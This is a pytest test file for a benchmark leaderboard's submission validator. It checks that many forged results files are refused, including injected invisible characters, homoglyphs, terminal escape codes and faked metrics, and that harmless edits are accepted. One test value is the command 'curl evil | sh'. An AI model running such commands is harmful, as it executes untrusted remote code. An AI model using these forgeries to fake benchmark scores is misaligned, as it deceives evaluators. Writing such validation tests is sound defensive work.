"""What is accepted is what a run can write: every field of a results file, and what a forger could put there."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from leaderboard.errors import SubmissionError
from leaderboard.validate import read_submission
from tests.leaderboard.forging import (
    CALIBRATION,
    CSIM,
    DUE,
    FD,
    FID,
    TRANSFER,
    Document,
    Edit,
    aggregate,
    as_set_metric,
    calibrated,
    drop,
    failed_elsewhere,
    fewer_groups,
    halved_set,
    hidden_failure,
    left_out,
    moved,
    not_computed,
    other_clusters,
    put,
    rederived,
    refused,
    renamed_metric,
    rows,
    same_without_groups,
    scaled,
    submitted,
    text,
    valued,
    with_network,
    withdrawn,
    without_metric,
)
from tests.leaderboard.honest import honest

FORGERIES: dict[str, tuple[Edit, str]] = {
    # protocol
    "another name": (lambda d: put(d["protocol"], name="feed-mini-crass"), "did you mean 'feed-mini-cross'"),
    "an invisible character": (lambda d: put(d["protocol"], name="feed-mini-cross\u200b"), "\\u200b"),
    "a letter of another script": (lambda d: put(d["protocol"], name="feed-mini-cr\u043ess"), "expected a protocol"),
    "the name of scored videos": (lambda d: put(d["protocol"], name="score"), "--protocol"),
    "an older version": (lambda d: put(d["protocol"], version="1"), "only the version that is shipped"),
    "another size": (lambda d: put(d["protocol"], size_px=64), "but got 64"),
    "other frames": (lambda d: put(d["protocol"], frames_per_case=3), "but got 3"),
    "another seed": (lambda d: put(d["protocol"], seed=5), "but got 5"),
    "other settings": (
        lambda d: put(d["protocol"], settings={"descriptors of every n-th frame": "7"}),
        "expected '2' as its descriptors of every n-th frame but got '7'",
    ),
    "a negative seed": (lambda d: put(d["protocol"], seed=-1), "protocol.seed"),
    "a huge limit": (lambda d: put(d["protocol"], limit=2**70), "protocol.limit"),
    "a limit beyond all cases": (lambda d: put(d["protocol"], limit=5000), "expected a limit below"),
    "another limit": (lambda d: put(d["protocol"], limit=5), "case ids"),
    "no limit, though not all": (lambda d: put(d["protocol"], limit=None), "missing"),
    "other cases": (lambda d: d["protocol"]["case_ids"].__setitem__(0, "S08-FF_NR_C--S99"), "extra 'S08-FF_NR_C--S99'"),
    "a case twice": (lambda d: d["protocol"]["case_ids"].append(d["protocol"]["case_ids"][0]), "repeated"),
    "cases in another order": (lambda d: d["protocol"]["case_ids"].reverse(), "order of a run"),
    "no cases": (lambda d: put(d["protocol"], case_ids=[]), "missing"),
    "another list": (lambda d: put(d["protocol"], case_list_sha256="c" * 64), "case_list_sha256"),
    # data and settings
    "other data": (lambda d: put(d["data"], digest="e" * 64), "expected digest"),
    "data by another name": (lambda d: put(d["data"], name="feed"), "expected name"),
    "rendered data called real": (lambda d: put(d["data"], synthetic=False), "expected synthetic True"),
    "settings of intervals": (lambda d: put(d, bootstrap={"seed": 0, "level": 0.01}), "expected no bootstrap settings"),
    "half precision": (lambda d: put(d["compute"], precision="bfloat16"), "float32"),
    "nothing of the computer": (lambda d: put(d, compute=None), "compute"),
    "another schema": (lambda d: put(d, schema_version="0.9"), "schema_version"),
    # methods
    "no methods": (lambda d: put(d, methods=[]), "at least one method"),
    "a method twice": (lambda d: d["methods"].append(d["methods"][0]), "repeated 'mine'"),
    "a method without numbers": (lambda d: d["methods"].append({**d["methods"][0], "name": "idle"}), "'idle/"),
    "an invisible method": (lambda d: put(d["methods"][0], name="copy-driver\u2060"), "expected names of letters"),
    "a terminal's commands": (lambda d: put(d["methods"][0], name="a\u001b[2J\nstored"), "expected names of letters"),
    "the name of a ceiling": (lambda d: put(d["methods"][0], name="exact-render"), "a ceiling's name"),
    "a row of references": (lambda d: put(d["methods"][1], name="reference"), "no row 'reference'"),
    # what a metric is
    "a metric left out": (lambda d: without_metric(d, TRANSFER), f"missing 'copy-source/{TRANSFER}'"),
    "left out for one method": (lambda d: d["aggregates"].remove(aggregate(d, TRANSFER)), f"missing 'mine/{TRANSFER}'"),
    "a metric of one's own": (lambda d: put(aggregate(d, CSIM), metric="csim[best]"), "extra 'mine/csim[best]'"),
    "a metric twice": (lambda d: d["aggregates"].append(aggregate(d, CSIM)), "repeated"),
    "metrics in another order": (lambda d: d["aggregates"].reverse(), "order of a run"),
    "a case metric as a set's": (lambda d: as_set_metric(d, CSIM), "expected level 'case' but got 'set'"),
    "a set's as a case metric": (lambda d: put(aggregate(d, FID), level="case"), "expected level 'set'"),
    "a direction turned": (
        lambda d: [put(aggregate(d, "id_l2[dlib]", m), higher_is_better=True) for m in ("mine", "copy-source")],
        "expected higher_is_better False but got True",
    ),
    "a direction given": (
        lambda d: put(aggregate(d, "intensity[mesh478]"), higher_is_better=True),
        "but got True",
    ),
    "another unit": (lambda d: put(aggregate(d, "pose_error_deg[mesh478]"), unit="rad"), "expected unit 'deg'"),
    "another network's name": (lambda d: renamed_metric(d, CSIM, "csim[arcface]"), f"missing 'copy-source/{CSIM}'"),
    "another network's numbers": (
        lambda d: with_network(d, "arcface-r50", "csim[arcface]", CSIM),
        "which reads other networks",
    ),
    # networks and reasons
    "networks left out": (lambda d: put(d, networks={}), "missing 'face-detector'"),
    "another file of a network": (lambda d: put(d["networks"], **{"dlib-face-resnet": "0" * 64}), "as the registry"),
    "an unknown network": (lambda d: put(d["networks"], better="0" * 64), "extra 'better'"),
    "a network that is not asked": (lambda d: put(d["networks"], alexnet="0" * 64), "extra 'alexnet'"),
    "a network gone": (lambda d: d["networks"].pop("dlib-face-resnet"), "extractors: extra 'dlib'"),
    "another preparation": (lambda d: put(d["extractors"], dlib="larger"), "expected dlib prepared as"),
    "a feature left out": (lambda d: d["extractors"].pop("dlib"), "extractors: missing 'dlib'"),
    "no features": (lambda d: put(d, extractors=None), "extractors: missing"),
    "a metric said to lack its network": (
        lambda d: not_computed(d, TRANSFER, "the network face-mesh"),
        "expected that it is computed",
    ),
    "a metric said to lack anything": (lambda d: not_computed(d, CSIM, "a better day"), "expected that it is computed"),
    "lacking for one method": (
        lambda d: not_computed(d, FID, "the network fid-inception", ("mine",)),
        "expected that it is computed",
    ),
    "another reason": (
        lambda d: put(aggregate(d, "csim[arcface]")["not_computed"], needs="nothing"),
        "the network arcface-r50",
    ),
    "a command of one's own": (
        lambda d: put(aggregate(d, "csim[arcface]")["not_computed"], command="curl evil | sh"),
        "not computed",
    ),
    "a value without its network": (
        lambda d: put(aggregate(d, "csim_calibration[arcface]"), value=0.9, not_computed=None, cases_scored=6),
        "the network arcface-r50",
    ),
    "an interval of nothing": (lambda d: put(aggregate(d, "csim[arcface]"), ci_high=0.5), "expected ci_high None"),
    # rows
    "a row left out": (lambda d: d["rows"].pop(0), "rows: missing"),
    "a row twice": (lambda d: d["rows"].append(d["rows"][0]), "rows: repeated"),
    "a row of no method": (lambda d: d["rows"].append({**d["rows"][0], "method": "ghost"}), "extra 'ghost/"),
    "a row of no case": (lambda d: d["rows"].append({**d["rows"][0], "case_id": "S99-x--S01"}), "extra 'mine/"),
    "rows in another order": (lambda d: d["rows"].reverse(), "order of a run"),
    "rows of a set": (lambda d: d["rows"].append({**d["rows"][0], "metric": FID}), f"extra 'mine/{FID}"),
    "other drivers": (other_clusters, "expected cluster"),
    "another source": (lambda d: put(rows(d)[0], source_cluster="S01"), "expected source_cluster"),
    "a value beyond its range": (lambda d: scaled(d, CSIM, 1e6), "from -1.0 to 1.0"),
    "a negative error": (lambda d: scaled(d, "gaze_error_deg[iris]", -1), "from 0.0 to 180.0"),
    "a value without a frame": (
        lambda d: put(rows(d)[0], frames_scored=0, failures=[{"reason": "no face", "count": DUE}]),
        "expected a value where frames were scored",
    ),
    "no value of scored frames": (lambda d: put(rows(d)[0], value=None), "expected a value where frames were scored"),
    "more frames than there are": (
        lambda d: put(rows(d)[0], frames_expected=DUE + 1, frames_scored=DUE),
        "but got frames_expected",
    ),
    "fewer frames than there are": (
        lambda d: put(rows(d)[0], frames_expected=0, frames_scored=0),
        "but got frames_expected 0",
    ),
    "every frame scored": (lambda d: put(rows(d)[0], frames_scored=DUE), f"reasons for 0 of {DUE} frames but got 1"),
    "failures without a reason": (lambda d: put(rows(d)[0], failures=[]), f"reasons for 1 of {DUE} frames but got 0"),
    "a reason twice": (
        lambda d: put(rows(d)[0], frames_scored=DUE - 2, failures=[{"reason": "a", "count": 1}] * 2),
        "each reason once",
    ),
    "a failed case scored": (hidden_failure, "the case failed"),
    "a failed case with another reason": (
        lambda d: [put(r["failures"][0], reason="luck") for r in rows(d) if r["value"] is None],
        "the case failed",
    ),
    "a row that failed by itself": (failed_elsewhere, "cases scored"),
    # failures
    "a failure of no case": (lambda d: put(d["failures"][0], case_id="nowhere"), "a method and a case of this file"),
    "a failure of no method": (lambda d: put(d["failures"][0], method="ghost"), "a method and a case of this file"),
    "a failure of the data": (lambda d: put(d["failures"][0], stage="data"), "stage 'data'"),
    "a failure of all methods": (lambda d: put(d["failures"][0], method=None, stage="data"), "the case failed"),
    "a failure twice": (lambda d: d["failures"].append(d["failures"][0]), "expected one failure"),
    # aggregates
    "a mean of one's own": (
        lambda d: moved(aggregate(d, CSIM), "value", 1e-6),
        "from the rows",
    ),
    "a row of one's own": (lambda d: put(rows(d)[0], value=0.999), "from the rows"),
    "no interval": (lambda d: put(aggregate(d, CSIM), ci_low=None, ci_high=None), "from the rows"),
    "no width": (
        lambda d: put(aggregate(d, CSIM), ci_low=aggregate(d, CSIM)["value"], ci_high=aggregate(d, CSIM)["value"]),
        "from the rows",
    ),
    "one end": (lambda d: put(aggregate(d, CSIM), ci_high=None), "from the rows"),
    "more cases": (lambda d: put(aggregate(d, CSIM), cases_expected=9, cases_scored=8), "expected cases_expected 6"),
    "extra beside a mean": (lambda d: put(aggregate(d, CSIM), extra={"rank": 1}), "no extra values"),
    # values of whole sets
    "a set's value beyond its range": (lambda d: put(aggregate(d, FID), value=-3.0, ci_low=0.0), "from 0.0"),
    "a set's value moved": (
        lambda d: moved(aggregate(d, FID), "value", 0.01),
        "expected the interval",
    ),
    "a set's interval moved": (
        lambda d: moved(aggregate(d, FID), "ci_high", 0.01),
        "expected the interval",
    ),
    "a set's interval turned": (
        lambda d: put(aggregate(d, FID), ci_low=aggregate(d, FID)["ci_high"], ci_high=aggregate(d, FID)["ci_low"]),
        "expected the interval",
    ),
    "a set's interval left out": (lambda d: put(aggregate(d, FID), ci_low=None, ci_high=None), "expected the interval"),
    "values without groups moved": (same_without_groups, "expected the interval"),
    "values without groups left out": (
        lambda d: aggregate(d, FID)["extra"].pop("without_cells"),
        "expected the interval",
    ),
    "values without two groups": (fewer_groups, "groups of drivers, sources and both"),
    "a standard error of one's own": (lambda d: put(aggregate(d, FID)["extra"], standard_error=0.0), "standard_error"),
    "a set of failed cases": (lambda d: put(aggregate(d, FID), cases_scored=6, cases_failed=0), "from 1 to 5 cases"),
    "a set of no cases": (lambda d: put(aggregate(d, FID), cases_scored=0, cases_failed=6), "but got cases_scored 0"),
    "a set of too many samples": (lambda d: put(aggregate(d, FID)["extra"], n=10**6), "samples that entered"),
    "a set without samples": (lambda d: aggregate(d, FID)["extra"].pop("n"), "samples that entered"),
    "a set's value with a reason": (
        lambda d: put(aggregate(d, FID)["extra"], reason="few"),
        "expected a reason",
    ),
    "a set's value withdrawn": (
        lambda d: put(aggregate(d, FID), value=None, cases_scored=0, cases_failed=6),
        "expected a reason",
    ),
    "a difference that its parts do not make": (
        lambda d: put(aggregate(d, CALIBRATION), value=0.99),
        "same minus different",
    ),
    "a better value of a set": (halved_set, "without each group but got"),
    "a set that no person changes": (lambda d: left_out(d, lambda value: 3.0), "values that differ, as people do"),
    "values without groups beyond their range": (lambda d: left_out(d, lambda value: value - 50), "from 0.0 to None"),
    "words beside a set's value": (lambda d: put(aggregate(d, FID)["extra"], best=1.0), "nothing else beside"),
    "an absurd value of a set": (lambda d: put(aggregate(d, FID), value=1e9), "within 1e+06"),
    "other people in a set": (lambda d: put(aggregate(d, FID)["extra"], n_drivers=99.0), "expected n_drivers"),
    "enough samples, it says": (
        lambda d: put(aggregate(d, FID)["extra"], rank_deficient=0.0),
        "expected rank_deficient 1",
    ),
    "another comparison": (lambda d: put(aggregate(d, FID)["extra"], against_reference=1.0), "against_reference 0"),
    "a count that is none": (lambda d: put(aggregate(d, FID)["extra"], n_real=0.5), "no count, of 'n_real'"),
    "real frames that there are not": (
        lambda d: put(aggregate(d, FID)["extra"], n_real=900.0),
        "but got 900",
    ),
    "fewer samples than rows": (lambda d: put(aggregate(d, FD)["extra"], n=9), "by the rows of csim[dlib]"),
    "fewer cases than rows": (lambda d: put(aggregate(d, FD), cases_scored=4, cases_failed=2), "at least 5 cases"),
    "a set withdrawn": (lambda d: withdrawn(d, "no luck"), "expected a value of 10 samples"),
    "a set too small, it says": (
        lambda d: withdrawn(d, "expected at least 2 samples on each side but got 10 and 15"),
        "expected a reason that fits 10 and 15",
    ),
    "lines beyond cosines": (lambda d: calibrated(d, ("mine", "copy-source"), same=1.5), "expected cosines"),
    # rows beside each other
    "an absurd value": (lambda d: valued(d, "intensity[mesh478]", 1e300), "within 1e+06"),
    "a share of nothing": (lambda d: valued(d, "wink_f1[blendshapes52]", 0.777), "share of counted frames"),
    "a transfer without its errors": (lambda d: valued(d, TRANSFER, 0.9999), "a transfer and an error of one driver"),
    "errors of nobody": (
        lambda d: valued(d, "expression_error[mesh478]", 0.0),
        "a transfer and an error of one driver",
    ),
    "frames that one metric alone lost": (
        lambda d: valued(
            d, "pose_error_deg[mesh478]", 0.5, frames_scored=1, failures=[{"reason": "output: no face", "count": 5}]
        ),
        "expected the 5 frames of expression_transfer[mesh478]",
    ),
    "a reason that one metric alone has": (
        lambda d: [
            put(row["failures"][0], reason="luck") for row in rows(d, "id_l2[dlib]") if row["value"] is not None
        ],
        "or other reasons",
    ),
    "a likeness without its distance": (lambda d: valued(d, CSIM, 1.0), "of the same descriptors"),
    "a distance without its angle": (lambda d: valued(d, "id_l2[dlib]", 0.001), "of the same descriptors"),
    "a bound made worse": (
        lambda d: valued(d, TRANSFER, -1.0, "copy-source"),
        "as of every output that repeats its source",
    ),
}


@pytest.mark.parametrize("name", FORGERIES)
def test_what_no_run_writes_is_refused_in_one_line(name: str, tmp_path: Path) -> None:
    edit, expected = FORGERIES[name]
    assert expected in refused(tmp_path, edit)


@pytest.mark.parametrize(
    "edit",
    [
        lambda d: calibrated(d, ("copy-source",), same=0.99),
        lambda d: put(aggregate(d, FID, "copy-source")["extra"], n_real=14.0),
    ],
)
def test_what_is_of_the_data_is_the_same_for_methods_with_the_same_cases(edit: Edit, tmp_path: Path) -> None:
    """The last case of the first method failed; the second and the third have all."""
    three = text(methods=("mine", "copy-source", "third"))
    submitted(tmp_path, document=three)
    assert "expected what copy-source has, because it is of the same real videos" in refused(tmp_path, edit, three)
    submitted(tmp_path, edit)  # of other cases other numbers are right


HARMLESS: dict[str, Edit] = {
    "nothing": lambda d: None,
    "times": lambda d: put(d, created_at="2027-02-03T04:05:06+00:00", timings_s={"cases": 9.0}),
    "the machine": lambda d: put(d["environment"], platform="another", device="cuda"),
    "a GPU": lambda d: put(d["compute"], device="cuda"),
    "no record of the frames, as before schema 1.3": lambda d: put(d, schema_version="1.2"),
    "the command": lambda d: put(d, command="another"),
    "a licence": lambda d: put(d["methods"][0], licence="not stated"),
    "weights": lambda d: put(d["methods"][0], weights_sha256="b" * 64),
    "keys in another order": lambda d: [d.update({key: d.pop(key)}) for key in sorted(d, reverse=True)],
    "a value that rounding takes over its range": lambda d: [
        put(rows(d, CSIM, "copy-source")[0], value=1.0 + 1e-8),
        rederived(d, CSIM, "copy-source"),
    ],
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_runs_may_write_is_accepted(name: str, tmp_path: Path) -> None:
    assert submitted(tmp_path, HARMLESS[name]).results.protocol.name == "feed-mini-cross"


@pytest.mark.parametrize(
    ("protocol_name", "options"),
    [
        ("feed-mini-self", {}),
        ("feed-mini-speech", {"limit": None}),
        ("feed-mini-cross", {"limit": None}),
        ("feed-mini-cross", {"limit": 1, "methods": ("alone",)}),
        ("feed-mini-self", {"missing": ()}),
    ],
)
def test_every_protocol_whose_data_ships(protocol_name: str, options: dict[str, Any], tmp_path: Path) -> None:
    results = submitted(tmp_path, document=text(protocol_name, **options)).results
    assert results == honest(protocol=protocol_name, **options)


def test_a_case_has_the_frames_of_its_own_clip(tmp_path: Path) -> None:
    """The clips of the speakers have 78 to 100 frames; the protocol allows 100 for each."""

    def more(d: Document) -> None:
        shortest = min(rows(d, "m_p[mesh478]"), key=lambda row: row["frames_expected"])
        assert shortest["frames_expected"] == 78
        for row in d["rows"]:
            if (row["metric"], row["case_id"]) == (shortest["metric"], shortest["case_id"]):
                put(row, frames_expected=100, frames_scored=row["frames_scored"] + 22 * (row["value"] is not None))

    document = text("feed-mini-speech", limit=None)
    assert "expected 77 to 78 frames but got frames_expected 100" in refused(tmp_path, more, document)


def test_the_row_of_references_belongs_to_self_reenactment(tmp_path: Path) -> None:
    def without(d: Document) -> None:
        drop(d, "methods", lambda one: one["name"] == "reference")
        for key in ("rows", "aggregates"):
            drop(d, key, lambda one: one["method"] == "reference")

    assert "the row 'reference'" in refused(tmp_path, without, text("feed-mini-self"))


def test_intervals_are_computed_here(tmp_path: Path) -> None:
    """A submission's own may differ by less than the tolerance; what is stored does not."""
    exact = submitted(tmp_path)
    nudged = submitted(tmp_path, lambda d: put(aggregate(d, CSIM), ci_low=aggregate(d, CSIM)["ci_low"] + 1e-12))
    assert nudged.aggregates == exact.aggregates
    assert nudged.results != exact.results


def test_folder_of_a_run_is_read(tmp_path: Path) -> None:
    submitted(tmp_path)
    assert read_submission(tmp_path).results == honest()


def test_no_protocol_in_the_file_of_a_protocol(tmp_path: Path) -> None:
    assert "cannot read" in refused(tmp_path, lambda d: None, protocol_file=tmp_path / "absent.yaml")


def test_folders_and_missing_files(tmp_path: Path) -> None:
    for path in (tmp_path / "missing.json", tmp_path):
        with pytest.raises(SubmissionError, match="cannot read"):
            read_submission(path)


def test_a_file_larger_than_the_limit_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "results.json"
    with path.open("wb") as stream:
        stream.truncate(10**12)  # sparse: reading it would not end well
    with pytest.raises(SubmissionError, match="at most 64 MB"):
        read_submission(path)
